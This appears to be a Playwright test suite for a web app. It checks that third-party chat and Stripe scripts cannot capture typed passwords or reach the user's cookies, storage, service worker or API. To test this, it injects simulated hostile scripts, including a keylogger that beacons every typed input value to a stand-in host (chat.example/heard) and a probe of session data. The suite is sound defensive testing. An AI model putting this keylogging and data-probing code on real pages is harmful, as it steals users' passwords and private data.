import { type BrowserContext, type Page, expect, test } from '@playwright/test'
import { pageAwake, workerInControl } from '../support/browser.ts'
import { type BuiltServer, builtServer } from '../support/server.ts'
import { phoneScreen, signIn, studentNamed } from '../support/student.ts'

test.use(phoneScreen)

/** Tells its provider every word that is typed from now on. */
const listensFor = (provider: string) => `
addEventListener('input', ({ target }) => navigator.sendBeacon('${provider}/heard', target.value), true)
window.runsForeign = true`

/** Tries what a script of our own could do, and leaves what came of it in the page. */
const chatScript = `${listensFor('https://chat.example')}
const reaches = {
  origin: () => self.origin === location.origin,
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('vademecum')
    opening.onsuccess = resolve
    opening.onerror = () => reject(opening.error)
  }),
  databases: () => indexedDB.databases(),
  caches: () => caches.keys(),
  worker: () => navigator.serviceWorker.getRegistrations(),
  api: () => fetch('/api/auth/me', { credentials: 'include' }),
  apiUnread: () => fetch('/api/site', { mode: 'no-cors' }),
  opener: () => window.opener && window.opener.document.title,
  ownFrame: () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe')
    frame.onload = () => { try { resolve(frame.contentWindow.document.title) } catch (error) { reject(error) } }
    frame.src = '/courses'
    document.body.append(frame)
  }),
  ownScript: () => new Promise((resolve, reject) => {
    document.head.append(Object.assign(document.createElement('script'), { src: '/start-client.js', onload: resolve, onerror: reject }))
  }),
}
const came = async (reach) => { try { return (await reach()) ? 'reached' : 'nothing' } catch { return 'refused' } }
Promise.all(Object.entries(reaches).map(async ([name, reach]) => [name, await came(reach)])).then((outcomes) => {
  document.body.dataset.outcomes = JSON.stringify(Object.fromEntries(outcomes))
})`

/** As much of Stripe's as its wrapper asks for: each part names itself where it is put. */
const stripeScript = `${listensFor('https://api.stripe.com')}
const part = (type) => ({
  mount: (place) => (place.textContent = 'Stripe: ' + type),
  on() { return this }, once() { return this }, off() { return this }, update() {}, unmount() {}, destroy() {},
})
const elements = () => ({ create: part, update() {}, getElement: () => null, on() {}, submit: async () => ({}) })
const nothing = () => undefined
window.Stripe = Object.assign(
  () => ({ elements, createToken: nothing, createPaymentMethod: nothing, confirmCardPayment: nothing }),
  { version: 'endive' },
)`
const stripeAddress = 'https://js.stripe.com/endive/stripe.js'

interface Provider {
  /** Address of each request that came. */
  asked: string[]
  /** What was typed where its script listened. */
  heard: string[]
}

/** A stand-in for the providers; nothing of this leaves the machine. */
async function providerIn(context: BrowserContext): Promise<Provider> {
  const provider: Provider = { asked: [], heard: [] }
  const scripts = new Map([
    ['/widget.js', chatScript],
    [new URL(stripeAddress).pathname, stripeScript],
  ])
  await context.route(/^https:\/\/(chat\.example|(js|api)\.stripe\.com)\//, (route) => {
    const { pathname } = new URL(route.request().url())
    if (pathname === '/heard') provider.heard.push(route.request().postData() ?? '')
    else provider.asked.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: scripts.get(pathname) ?? '' })
  })
  return provider
}

let server: BuiltServer
test.beforeAll(async () => {
  server = await builtServer({
    env: {
      LIVE_CHAT_SCRIPT_URL: 'https://chat.example/widget.js',
      STRIPE_SECRET_KEY: 'sk_test_nothing',
      STRIPE_PUBLISHABLE_KEY: 'pk_test_nothing',
      STRIPE_WEBHOOK_SECRET: 'whsec_nothing',
      // Nobody listens there.
      STRIPE_API_BASE: 'http://127.0.0.1:9',
    },
  })
})
test.afterAll(async () => server[Symbol.asyncDispose]())

const chatLink = (page: Page) => page.getByRole('link', { name: 'Chat with us' })
const runsForeign = (page: Page) => page.evaluate(() => 'runsForeign' in window)

async function typePassword(page: Page): Promise<void> {
  await page.getByLabel('Password', { exact: true }).pressSequentially('hunter2!')
  await expect(page.getByLabel('Password', { exact: true })).toHaveValue('hunter2!')
}

/** Nobody scrolls to the foot and taps within one frame; before it is laid out, such a tap would meet what moves there. */
const laidOutToTheFoot = (page: Page) => page.locator('[data-laid-out="true"]').waitFor()

test('a password that is typed after the front page or the chat is heard by nobody', async ({ page, context }) => {
  const provider = await providerIn(context)
  await page.goto(server.url)
  await pageAwake(page)
  await page.getByRole('button', { name: 'Open menu' }).tap()
  await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Sign in' }).tap()
  await typePassword(page)
  expect(provider).toEqual({ asked: [], heard: [] })

  await page.goto(server.url)
  await pageAwake(page)
  await laidOutToTheFoot(page)
  await chatLink(page).last().tap()
  await expect(page.getByRole('heading', { level: 1, name: 'Live chat' })).toBeVisible()
  await expect(page.locator('body')).toHaveAttribute('data-outcomes')
  expect(provider.asked).toEqual(['https://chat.example/widget.js'])
  await page.getByRole('link', { name: 'Back to the home page' }).tap()
  await expect(page).toHaveURL(`${server.url}/`)
  expect(await runsForeign(page)).toBe(false)
  await pageAwake(page)
  await page.getByRole('button', { name: 'Open menu' }).tap()
  await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Sign in' }).tap()
  await typePassword(page)
  expect(provider.heard).toEqual([])

  // As well by the browser's own ways.
  await page.goto(`${server.url}/signin`)
  await page.goto(`${server.url}/live-chat`)
  await page.goBack()
  await typePassword(page)
  expect(provider.heard).toEqual([])
})

test.describe('with its worker', () => {
  test.use({ serviceWorkers: 'allow' })

  test('the chat of a person who is signed in reaches nothing of theirs', async ({ page, context, request }) => {
    const provider = await providerIn(context)
    const who = studentNamed('Charlotte')
    expect((await request.post(`${server.url}/api/auth/signup`, { data: who })).ok()).toBe(true)
    await signIn(page, server.url, who)
    await workerInControl(page)
    await page.goto(server.url)
    await pageAwake(page)
    await laidOutToTheFoot(page)
    await chatLink(page).last().tap()
    const told = page.locator('body[data-outcomes]')
    await expect(told).toBeVisible()
    const outcomes = JSON.parse((await told.getAttribute('data-outcomes')) ?? '{}') as Record<string, string>
    expect(Object.keys(outcomes)).toHaveLength(13)
    for (const [name, outcome] of Object.entries(outcomes))
      expect([name, outcome]).toEqual([name, expect.stringMatching(/refused|nothing/)])
    expect(provider.asked).toEqual(['https://chat.example/widget.js'])
  })
})

test('a page that the chat opens is out of its reach', async ({ page, context }) => {
  await context.route('https://chat.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: "addEventListener('click', () => (self.w = open('/signin')))",
    }),
  )
  await page.goto(`${server.url}/live-chat`)
  const opening = context.waitForEvent('page')
  await page.getByRole('heading', { name: 'Live chat' }).click()
  const opened = await opening
  await expect(opened.getByLabel('Email')).toBeVisible()
  expect(await opened.evaluate(() => [window.opener, self.origin])).toEqual([null, server.url])
  expect(await page.evaluate('self.w.closed')).toBe(true)
})

test('with no network the built-in help stands where the chat would', async ({ page, context }) => {
  await page.goto(server.url)
  await expect(chatLink(page).last()).toBeVisible()
  // What looks out for the network comes with the page's code.
  await pageAwake(page)
  await context.setOffline(true)
  await expect(page.getByRole('button', { name: 'Help' }).last()).toBeVisible()
  await expect(chatLink(page)).toHaveCount(0)
})

test('the contact page leads to the chat as well, other pages to the help', async ({ page }) => {
  await page.goto(`${server.url}/contact`)
  await expect(chatLink(page)).toHaveAttribute('href', '/live-chat')
  await page.goto(`${server.url}/courses`)
  await expect(page.getByRole('button', { name: 'Help' }).last()).toBeVisible()
  await expect(chatLink(page)).toHaveCount(0)
})

test.describe('with its worker', () => {
  test.use({ serviceWorkers: 'allow' })

  test('the payment provider’s script runs in the pages where one pays, and ends with them', async ({
    page,
    context,
  }) => {
    const provider = await providerIn(context)
    await page.goto(`${server.url}/courses`)
    await workerInControl(page)
    const reply = await page.goto(`${server.url}/guest-checkout/4`)
    expect(await reply?.headerValue('content-security-policy')).toContain('https://js.stripe.com')
    await expect(page.getByText('Stripe: payment')).toBeVisible()
    expect(await runsForeign(page)).toBe(true)
    expect(provider.asked).toEqual([stripeAddress])

    await pageAwake(page)
    await page.getByRole('button', { name: 'Open menu' }).tap()
    await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Sign in' }).tap()
    await expect(page).toHaveURL(/\/signin/)
    await page.getByLabel('Email').fill('ada@example.org')
    await typePassword(page)
    expect(await runsForeign(page)).toBe(false)
    expect(provider.heard).toEqual([])
  })
})

test('the app goes to a page where one pays by loading its document', async ({ page, request }) => {
  const who = studentNamed('Paula')
  expect((await request.post(`${server.url}/api/auth/signup`, { data: who })).ok()).toBe(true)
  await page.goto(`${server.url}/signin?redirect=/stripe-checkout`)
  await page.getByLabel('Email').fill(who.email)
  await page.getByLabel('Password', { exact: true }).fill(who.password)
  await page.getByRole('main').getByRole('button', { name: 'Sign in', exact: true }).click()
  await expect(page).toHaveURL(`${server.url}/stripe-checkout`)
  await expect.poll(() => page.evaluate(() => performance.getEntriesByType('navigation')[0]?.name)).toBe(page.url())
})
